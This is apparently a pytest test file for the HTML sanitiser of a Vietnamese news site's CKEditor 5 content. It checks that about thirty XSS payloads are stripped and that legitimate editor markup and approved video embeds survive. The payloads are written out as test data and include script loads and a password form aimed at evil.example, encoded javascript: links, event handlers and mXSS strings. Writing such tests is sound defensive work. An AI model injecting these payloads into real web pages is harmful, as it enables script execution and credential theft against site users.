"""The sanitiser: hostile markup is neutralised, what CKEditor 5 writes survives."""

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mattran.lib.html import is_video_embed, sanitize_html

# Each hostile body, OWASP XSS cheat-sheet style, and a marker that must not survive.
HOSTILE_BODIES = {
    "script": ("<p>a</p><script>alert(1)</script>", "alert"),
    "script-mixed-case": ("<ScRiPt SrC=//evil.example/x.js></sCrIpT>", "evil.example"),
    "img-onerror": ('<img src="x" onerror="alert(1)">', "onerror"),
    "svg-onload": ("<svg onload=alert(1)><circle r=1 /></svg>", "onload"),
    "body-onload": ("<body onload=alert(1)><p>x</p></body>", "onload"),
    "javascript-link": ('<a href="javascript:alert(1)">x</a>', "javascript"),
    "javascript-link-mixed-case": ('<a href="JaVaScRiPt:alert(1)">x</a>', "alert"),
    "javascript-link-entity": (
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
        "alert",
    ),
    "javascript-link-hex-entity-tab": ('<a href="jav&#x09;ascript:alert(1)">x</a>', "alert"),
    "javascript-link-leading-space": ('<a href=" &#14;  javascript:alert(1)">x</a>', "alert"),
    "iframe-unknown-host": ('<iframe src="https://evil.example/embed/1"></iframe>', "iframe"),
    "iframe-javascript": ('<iframe src="javascript:alert(1)"></iframe>', "iframe"),
    "iframe-youtube-over-http": (
        '<iframe src="http://www.youtube.com/embed/x"></iframe>',
        "iframe",
    ),
    "iframe-youtube-lookalike-host": (
        '<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>',
        "iframe",
    ),
    "script-inside-an-allowed-player": (
        '<iframe src="https://www.youtube.com/embed/x"><script>alert(1)</script></iframe>',
        "alert",
    ),
    "css-expression": ('<p style="width: expression(alert(1))">x</p>', "expression"),
    "css-url": ('<p style="background:url(javascript:alert(1))">x</p>', "url("),
    "css-position-fixed": ('<p style="position:fixed;top:0;left:0;z-index:9999">x</p>', "fixed"),
    "object": ('<object data="javascript:alert(1)"></object>', "object"),
    "embed": ('<embed src="https://evil.example/x.swf">', "embed"),
    "form": (
        '<form action="https://evil.example"><input name="pw"><button>Gửi</button></form>',
        "form",
    ),
    "meta-refresh": ('<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', "refresh"),
    "data-url-image": ('<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">', "data:"),
    "data-url-link": ('<a href="data:text/html,<script>alert(1)</script>">x</a>', "data:"),
    "math-style-mxss": (
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "onerror",
    ),
    "style-tag": ("<style>body{display:none}</style><p>x</p>", "display"),
    "srcset-javascript": ('<img src="/a.jpg" srcset="javascript:alert(1) 400w">', "javascript"),
    "base-tag": ('<base href="https://evil.example/">', "evil.example"),
    "comment-conditional": ("<!--[if IE]><script>alert(1)</script><![endif]-->", "alert"),
}


@pytest.mark.parametrize(("body", "marker"), HOSTILE_BODIES.values(), ids=HOSTILE_BODIES.keys())
def test_hostile_markup_is_neutralised(body, marker):
    cleaned = sanitize_html(body)
    assert marker.lower() not in cleaned.lower()
    assert not re.search(r"\son\w+\s*=", cleaned, re.IGNORECASE)
    assert "<script" not in cleaned.lower()


@pytest.mark.parametrize(("body", "marker"), HOSTILE_BODIES.values(), ids=HOSTILE_BODIES.keys())
def test_sanitising_twice_equals_once(body, marker):
    once = sanitize_html(body)
    assert sanitize_html(once) == once


# What CKEditor 5 writes for a news story (headings, lists, a captioned image with its
# renditions, a table with a caption, a block quote, aligned text, a link) and an embed.
CKEDITOR_BODY = (
    "<h2>Kết quả Hội nghị</h2>"
    '<p style="text-align:center">Ngày 17/5/2024, tại <a href="https://mattran.example.vn/hoi-nghi/"'
    ' rel="noopener noreferrer">hội trường</a> khu phố 1.</p>'
    "<h3>Những chỉ tiêu chính</h3>"
    "<ul><li>Vận động <strong>438.000.000 đ</strong></li><li>Xây <em>12</em> căn nhà</li></ul>"
    "<ol><li>Một</li><li>Hai</li></ol>"
    '<figure class="image"><img src="/media/editor/2024/05/a.jpg" alt="Quang cảnh"'
    ' srcset="/media/editor/2024/05/a.jpg.400x0_q82.jpg 400w,'
    ' /media/editor/2024/05/a.jpg.800x0_q82.jpg 800w"'
    ' sizes="100vw" width="800" height="533"><figcaption>Quang cảnh hội nghị</figcaption></figure>'
    '<figure class="table"><table><caption>Kết quả vận động</caption><thead><tr>'
    '<th scope="col">Khu phố</th><th scope="col">Số tiền</th></tr></thead>'
    '<tbody><tr><td>1</td><td style="text-align:right">438.000.000 đ</td></tr>'
    '<tr><td colspan="2">Tổng</td></tr></tbody></table></figure>'
    "<blockquote><p>Đoàn kết, dân chủ.</p></blockquote>"
    '<iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ" width="560" height="315"'
    ' title="Video" allow="autoplay; encrypted-media" allowfullscreen=""></iframe>'
)

# The same, stored: only lazy loading is added to the photo and the player.
CKEDITOR_BODY_STORED = CKEDITOR_BODY.replace(
    'height="533">', 'height="533" loading="lazy">'
).replace('allowfullscreen=""></iframe>', 'allowfullscreen="" loading="lazy"></iframe>')


def test_what_ckeditor_writes_survives_with_lazy_loading_added():
    assert CKEDITOR_BODY_STORED != CKEDITOR_BODY
    assert sanitize_html(CKEDITOR_BODY) == CKEDITOR_BODY_STORED
    assert sanitize_html(CKEDITOR_BODY_STORED) == CKEDITOR_BODY_STORED


@pytest.mark.parametrize(
    "url",
    [
        "https://www.youtube.com/embed/dQw4w9WgXcQ",
        "https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ?start=3",
        "https://player.vimeo.com/video/76979871",
        "https://www.facebook.com/plugins/video.php?href=https%3A%2F%2Fwww.facebook.com%2Fx",
    ],
)
def test_known_video_players_may_be_embedded(url):
    assert is_video_embed(url)
    cleaned = sanitize_html(f'<iframe src="{url}"></iframe>')
    assert cleaned == f'<iframe src="{url.replace("&", "&amp;")}" loading="lazy"></iframe>'


@pytest.mark.parametrize(
    "url",
    [
        "https://www.youtube.com/watch?v=x",
        "https://evil.example/embed/x",
        "https://user@www.youtube.com/embed/x",
        "https://www.facebook.com/evil",
        "//www.youtube.com/embed/x",
    ],
)
def test_other_frames_are_removed_with_their_content(url):
    cleaned = sanitize_html(f'<iframe src="{url}"><p>fallback</p></iframe><p>sau</p>')
    assert cleaned == "<p>sau</p>"


def test_style_keeps_only_a_plain_text_alignment():
    cleaned = sanitize_html('<p style="color:red; text-align: CENTER; margin-left:-999px">x</p>')
    assert cleaned == '<p style="text-align:center">x</p>'


def test_links_get_a_safe_rel_and_only_blank_target():
    cleaned = sanitize_html('<a href="https://x.vn" target="_top" rel="opener">x</a>')
    assert cleaned == '<a href="https://x.vn" rel="noopener noreferrer">x</a>'


def test_unknown_figure_classes_are_dropped_but_image_style_kept():
    cleaned = sanitize_html(
        '<figure class="image image-style-side evil"><img src="/a.jpg"></figure>'
    )
    assert (
        cleaned
        == '<figure class="image image-style-side"><img src="/a.jpg" loading="lazy"></figure>'
    )


# Fragments that a body may be stitched from, hostile and friendly, in any order.
FRAGMENTS = [
    "<p>", "</p>", "<h2>", "</h2>", "<ul><li>", "</li></ul>", "<table><tr><td>", "</td></tr>",
    '<figure class="image x">', "</figure>", '<img src="/a.jpg" width="10" height="5">',
    "<figcaption>", '<a href="https://x.vn" target="_blank">', "</a>", "<script>", "</script>",
    '<iframe src="https://www.youtube.com/embed/x">', "</iframe>", '<svg onload="x">', "<style>",
    '<p style="text-align:right;color:red">', "<!--", "-->", "&amp;", "&lt;", "Đoàn kết ", "<",
    ">", '"', "javascript:", "<math>", "<br>", '<img srcset="/a.jpg 1w">',
]  # fmt: skip


@given(st.lists(st.sampled_from(FRAGMENTS) | st.text(max_size=5), max_size=30).map("".join))
@settings(max_examples=300, deadline=None)
def test_sanitising_any_mix_twice_equals_once(body):
    once = sanitize_html(body)
    assert sanitize_html(once) == once
    assert "<script" not in once.lower()
